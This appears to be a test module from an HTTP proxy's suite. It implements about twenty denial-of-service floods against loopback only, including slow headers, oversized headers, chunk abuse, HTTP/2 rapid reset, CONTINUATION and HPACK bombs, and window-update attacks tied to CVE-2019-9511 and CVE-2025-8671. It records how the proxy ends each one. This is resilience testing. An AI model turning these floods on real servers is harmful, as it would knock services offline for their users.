"""What an attacker does with one connection, and how it is told to stop.

    python -m tests.floods.attacks NAME PORT

keeps an attack going until its stdin ends, and prints an empty line once all connections are there,
and in the end how they were ended, as JSON.  Nothing here knows whom it attacks: the same bytes go
to this proxy and to Envoy, on loopback alone, by as many connections as the attack says.  One that
is ended is opened anew, `AGAIN` later.
"""

from __future__ import annotations

import asyncio
import itertools
import json
import math
import os
import resource
import socket
import struct
import sys
from collections import Counter
from collections.abc import Awaitable, Callable, Iterator
from contextlib import suppress
from dataclasses import dataclass
from typing import Final

from tests.fakes.framed import CODES, END_HEADERS, END_STREAM, PREFACE, frame, setting

AGAIN: Final = 0.05
"""Seconds until an attacker who was cut off comes again."""

OPENING: Final = 20.0
"""Seconds at most in which all connections are opened."""

PIECE: Final = 64 * 1024
MIB: Final = 1024 * 1024

HEADER_TABLE_SIZE, INITIAL_WINDOW = 1, 4


@dataclass(frozen=True, slots=True)
class Paths:
    """What the service behind the attacked one serves."""

    small: bytes = b"/json"
    large: bytes = b"/blob"
    """1 MB."""
    sink: bytes = b"/sink"
    """Takes uploads."""


class Wire(asyncio.Protocol):
    """An attacker's connection: notes how it is ended."""

    def __init__(self, *, reads: bool = True) -> None:
        self._reads = reads
        self._transport: asyncio.Transport
        self._writable = asyncio.Event()
        self._writable.set()
        self._received = bytearray()
        self._frames = 0
        """Where the next frame begins in what was received."""
        self.ended = asyncio.Event()
        self.verdict = ""
        """The code of a GOAWAY, a status of HTTP/1.1 that is no 200, or how it was closed."""

    def connection_made(self, transport: asyncio.BaseTransport) -> None:
        assert isinstance(transport, asyncio.Transport)
        self._transport = transport
        if not self._reads:
            transport.pause_reading()
        # Closed by a reset: ten thousand that wait for late segments would use up the ports.
        transport.get_extra_info("socket").setsockopt(
            socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0)
        )

    def pause_writing(self) -> None:
        self._writable.clear()

    def resume_writing(self) -> None:
        self._writable.set()

    def data_received(self, data: bytes) -> None:
        self._received += data
        if self._received.startswith(b"HTTP/1.1 "):
            status = bytes(self._received[9:12]).decode()
            if not self.verdict and len(status) == 3 and status != "200":
                self.verdict = status
            del self._received[16:]
            return
        self._read_frames()

    def _read_frames(self) -> None:
        received, at = self._received, 0
        while len(received) - at >= 9:
            size = int.from_bytes(received[at : at + 3])
            if len(received) - at < 9 + size:
                break
            if received[at + 3] == 7:
                code = int.from_bytes(received[at + 13 : at + 17])
                self.verdict = CODES[code] if code < len(CODES) else str(code)
            at += 9 + size
        del received[:at]

    def eof_received(self) -> bool:
        self.verdict = self.verdict or "closed"
        self.ended.set()
        return False

    def connection_lost(self, exc: Exception | None) -> None:
        self.verdict = self.verdict or ("reset" if exc else "closed")
        self.ended.set()
        self._writable.set()

    async def send(self, data: bytes) -> bool:
        """Send, as fast as it is taken; return whether the connection is still there."""
        await self._writable.wait()
        if not self.ended.is_set():
            self._transport.write(data)
            # The loop reads meanwhile what the other side says.
            await asyncio.sleep(0)
        return not self.ended.is_set()

    async def wait(self, seconds: float = 3600.0) -> bool:
        """Wait for so long; return whether the connection is still there."""
        try:
            async with asyncio.timeout(seconds):
                await self.ended.wait()
        except TimeoutError:
            return True
        return False

    def drop(self) -> None:
        """Be gone."""
        self._transport.abort()


Act = Callable[[Wire, Paths], Awaitable[None]]


@dataclass(frozen=True, slots=True)
class Attack:
    """One kind of flood."""

    label: str
    act: Act
    connections: int
    """That are open at once."""
    reads: bool = True
    once: bool = False
    """Whether each connection is opened once only."""
    ends: frozenset[str] = frozenset()
    """How this proxy ends it."""
    lasts: bool = False
    """Whether it goes on, and costs little."""


# --- HTTP/1.1


async def slow_heads(wire: Wire, paths: Paths) -> None:
    head = b"GET %b HTTP/1.1\r\nHost: localhost\r\nX-Slow: " % paths.small
    for byte in itertools.chain(head, itertools.repeat(0x61)):
        if not await wire.send(bytes((byte,))) or not await wire.wait(1.0):
            return


async def slow_bodies(wire: Wire, paths: Paths) -> None:
    head = b"POST %b HTTP/1.1\r\nHost: localhost\r\nContent-Length: 1000000\r\n\r\n" % paths.sink
    await wire.send(head)
    while await wire.send(b"a") and await wire.wait(1.0):
        pass


async def idle(wire: Wire, paths: Paths) -> None:
    del paths
    await wire.wait()


async def burst(wire: Wire, paths: Paths) -> None:
    """Ask once, and close as soon as there is an answer."""
    ask = b"GET %b HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n" % paths.small
    await wire.send(ask)
    await wire.wait()


async def giant_heads(wire: Wire, paths: Paths) -> None:
    await wire.send(b"GET %b HTTP/1.1\r\nHost: localhost\r\nX-Giant: " % paths.small)
    while await wire.send(b"a" * PIECE):
        pass


async def many_fields(wire: Wire, paths: Paths) -> None:
    await wire.send(b"GET %b HTTP/1.1\r\nHost: localhost\r\n" % paths.small)
    while await wire.send(b"a: b\r\n" * 10_000):
        pass


async def chunk_extensions(wire: Wire, paths: Paths) -> None:
    head = b"POST %b HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: chunked\r\n\r\n"
    await wire.send(head % paths.sink)
    while await wire.send((b"1;" + b"e" * 4000 + b"\r\na\r\n") * 16):
        pass


async def tiny_chunks(wire: Wire, paths: Paths) -> None:
    head = b"POST %b HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: chunked\r\n\r\n"
    await wire.send(head % paths.sink)
    while await wire.send(b"1\r\na\r\n" * 10_000):
        pass


async def pipelines(wire: Wire, paths: Paths) -> None:
    """Ask and ask, and read nothing."""
    while await wire.send(b"GET %b HTTP/1.1\r\nHost: localhost\r\n\r\n" % paths.small * 1000):
        pass


# --- HTTP/2


def request(path: bytes) -> bytes:
    """Return the block of a request that leaves no trace in the table (RFC 7541, 6.2.2)."""
    named = b"\x04" + bytes((len(path),)) + path
    return b"\x82\x86" + named + b"\x01\x09localhost"


def streams() -> Iterator[int]:
    """Yield the numbers of a caller's streams."""
    return iter(range(1, 2**31, 2))


async def greet(wire: Wire, *settings: tuple[int, int]) -> None:
    payload = b"".join(setting(name, value) for name, value in settings)
    await wire.send(PREFACE + frame("SETTINGS", 0, 0, payload))


async def rapid_reset(wire: Wire, paths: Paths) -> None:
    await greet(wire)
    block, numbers = request(paths.small), streams()
    cancel = struct.pack(">I", 8)
    while await wire.send(
        b"".join(
            frame("HEADERS", number, END_HEADERS | END_STREAM, block)
            + frame("RST_STREAM", number, 0, cancel)
            for number in itertools.islice(numbers, 100)
        )
    ):
        pass


async def made_to_reset(wire: Wire, paths: Paths) -> None:
    """Have the other side reset each stream (CVE-2025-8671)."""
    await greet(wire)
    block, numbers = request(paths.small), streams()
    while await wire.send(
        b"".join(
            frame("HEADERS", number, END_HEADERS, block)
            + frame("WINDOW_UPDATE", number, 0, bytes(4))
            for number in itertools.islice(numbers, 100)
        )
    ):
        pass


async def continuation(wire: Wire, paths: Paths) -> None:
    await greet(wire)
    await wire.send(frame("HEADERS", 1, END_STREAM, request(paths.small)))
    more = frame("CONTINUATION", 1, 0, b"\x00\x01a\x7f\x81\x07" + b"a" * 262)
    while await wire.send(more * 100):
        pass


async def empty_continuation(wire: Wire, paths: Paths) -> None:
    await greet(wire)
    await wire.send(frame("HEADERS", 1, END_STREAM, request(paths.small)))
    while await wire.send(frame("CONTINUATION", 1, 0, b"") * 1000):
        pass


async def settings(wire: Wire, paths: Paths) -> None:
    del paths
    await greet(wire)
    while await wire.send(frame("SETTINGS", 0, 0, setting(INITIAL_WINDOW, 65535)) * 1000):
        pass


async def pings(wire: Wire, paths: Paths) -> None:
    del paths
    await greet(wire)
    while await wire.send(frame("PING", 0, 0, bytes(8)) * 1000):
        pass


async def hpack_bomb(wire: Wire, paths: Paths) -> None:
    """One field of 4,000 bytes in the table, then blocks that name it 16,000 times each."""
    await greet(wire, (HEADER_TABLE_SIZE, 2**32 - 1))
    large = b"\x40\x01a\x7f\xa1\x1e" + b"a" * 4000
    await wire.send(frame("HEADERS", 1, END_HEADERS | END_STREAM, request(paths.small) + large))
    bomb = request(paths.small) + b"\xbe" * 16_000
    for number in itertools.islice(streams(), 1, None):
        if not await wire.send(frame("HEADERS", number, END_HEADERS | END_STREAM, bomb)):
            return


async def table_churn(wire: Wire, paths: Paths) -> None:
    """Blocks that put three thousand fields into the table, each in place of another one."""
    await greet(wire)
    churn = request(paths.small) + b"\x40\x01a\x01b" * 3000
    for number in streams():
        if not await wire.send(frame("HEADERS", number, END_HEADERS | END_STREAM, churn)):
            return


def _hundred_downloads(paths: Paths) -> bytes:
    numbers = itertools.islice(streams(), 100)
    block = request(paths.large)
    return b"".join(frame("HEADERS", n, END_HEADERS | END_STREAM, block) for n in numbers)


async def closed_windows(wire: Wire, paths: Paths) -> None:
    """A hundred downloads of 1 MB whose streams' windows stay at 0."""
    await greet(wire, (INITIAL_WINDOW, 0))
    await wire.send(_hundred_downloads(paths))
    await wire.wait()


async def opened_bytewise(wire: Wire, paths: Paths) -> None:
    """The same, whose windows are opened byte by byte (CVE-2019-9511)."""
    await greet(wire, (INITIAL_WINDOW, 0))
    await wire.send(_hundred_downloads(paths))
    one = struct.pack(">I", 1)
    drip = b"".join(
        frame("WINDOW_UPDATE", number, 0, one) for number in itertools.islice(streams(), 100)
    )
    while await wire.send(drip):
        pass


async def unread(wire: Wire, paths: Paths) -> None:
    """A hundred downloads of 1 MB with wide windows, of which nothing is read."""
    await greet(wire, (INITIAL_WINDOW, 2**31 - 1))
    wide = frame("WINDOW_UPDATE", 0, 0, struct.pack(">I", 2**31 - 65536))
    await wire.send(wide + _hundred_downloads(paths))
    await wire.wait()


CALM = frozenset({"ENHANCE_YOUR_CALM"})
CLOSED = frozenset({"closed"})

ATTACKS: dict[str, Attack] = {
    "slow_heads": Attack("2,000 heads, a byte a second", slow_heads, 2000, lasts=True),
    "slow_bodies": Attack("900 uploads, a byte a second", slow_bodies, 900, lasts=True),
    "idle": Attack("10,000 idle connections", idle, 10_000, lasts=True),
    "burst": Attack("10,000 connections at once", burst, 10_000, once=True, ends=CLOSED),
    "giant_heads": Attack("heads without end", giant_heads, 50, ends=frozenset({"431"})),
    "many_fields": Attack("heads of fields without end", many_fields, 50, ends=frozenset({"431"})),
    "chunk_extensions": Attack(
        "chunks with extensions of 4 KB", chunk_extensions, 20, ends=frozenset({"400"})
    ),
    "tiny_chunks": Attack("chunks of one byte", tiny_chunks, 20, lasts=True),
    "pipelines": Attack("pipelines, unread", pipelines, 20, reads=False, lasts=True),
    "rapid_reset": Attack("rapid reset", rapid_reset, 20, ends=CALM),
    "made_to_reset": Attack("streams that have to be reset", made_to_reset, 20, ends=CALM),
    "continuation": Attack("CONTINUATION without end", continuation, 20, ends=CALM),
    "empty_continuation": Attack("empty CONTINUATION", empty_continuation, 20, ends=CALM),
    "settings": Attack("SETTINGS", settings, 20, ends=CALM),
    "pings": Attack("PING", pings, 20, ends=CALM),
    "hpack_bomb": Attack("HPACK: large fields, named often", hpack_bomb, 20, ends=CALM),
    "table_churn": Attack("HPACK: a table that is never the same", table_churn, 20, ends=CALM),
    "closed_windows": Attack("1,000 downloads, windows closed", closed_windows, 10, lasts=True),
    "opened_bytewise": Attack(
        "the same, opened byte by byte", opened_bytewise, 10, ends=CALM, lasts=True
    ),
    "unread": Attack("1,000 downloads of 1 MB, unread", unread, 10, reads=False, lasts=True),
}  # fmt: skip


# --- keeping it going


class Attacker:
    """Keeps an attack going: what has ended is noted, and begun anew."""

    def __init__(self, attack: Attack, port: int, paths: Paths) -> None:
        self._attack = attack
        self._port = port
        self._paths = paths
        self.opened = 0
        self.all_open = asyncio.Event()
        """Whether so many were opened as attack at once."""
        self.ends: Counter[str] = Counter()
        """How connections were ended."""
        self._ends_wanted = math.inf
        self._reached = asyncio.Event()
        self._open: set[Wire] = set()
        self._tasks: list[asyncio.Task[None]] = []

    def start(self) -> None:
        """Begin."""
        loop = asyncio.get_running_loop()
        self._tasks = [loop.create_task(self._keep()) for _ in range(self._attack.connections)]

    async def stop(self) -> None:
        """Be gone with all connections."""
        for task in self._tasks:
            task.cancel()
        await asyncio.gather(*self._tasks, return_exceptions=True)
        for wire in self._open:
            wire.drop()
        await asyncio.sleep(0)

    async def ended(self, number: int) -> None:
        """Wait until so many connections were ended."""
        self._ends_wanted = number
        if self.ends.total() < number:
            await self._reached.wait()

    async def _keep(self) -> None:
        loop = asyncio.get_running_loop()
        attack = self._attack
        while True:
            try:
                _, wire = await loop.create_connection(
                    lambda: Wire(reads=attack.reads), "127.0.0.1", self._port
                )
            except OSError as error:
                self.ends[f"no connection: {error.strerror}"] += 1
                await asyncio.sleep(AGAIN)
                continue
            self.opened += 1
            if self.opened == attack.connections:
                self.all_open.set()
            self._open.add(wire)
            await attack.act(wire, self._paths)
            # What it is told may come behind the end of what it could send.
            await wire.wait(1.0)
            self._open.discard(wire)
            self._note(wire)
            if attack.once:
                return
            await asyncio.sleep(AGAIN)

    def _note(self, wire: Wire) -> None:
        self.ends[wire.verdict or "none"] += 1
        wire.drop()
        if self.ends.total() >= self._ends_wanted:
            self._reached.set()


def allow_many_files() -> None:
    """Raise the limit of open files as far as it goes."""
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))


async def main(name: str, port: int) -> None:
    """Attack until stdin ends; see the module."""
    allow_many_files()
    # It shares a core with those whose calls are measured.
    os.nice(5)
    attack = ATTACKS[name]
    attacker = Attacker(attack, port, Paths())
    attacker.start()
    if not attack.once:
        with suppress(TimeoutError):
            async with asyncio.timeout(OPENING):
                await attacker.all_open.wait()
    print(flush=True)
    await asyncio.to_thread(sys.stdin.read)
    ends = dict(attacker.ends)
    await attacker.stop()
    print(json.dumps({"opened": attacker.opened, "ends": ends}))


if __name__ == "__main__":
    asyncio.run(main(sys.argv[1], int(sys.argv[2])))
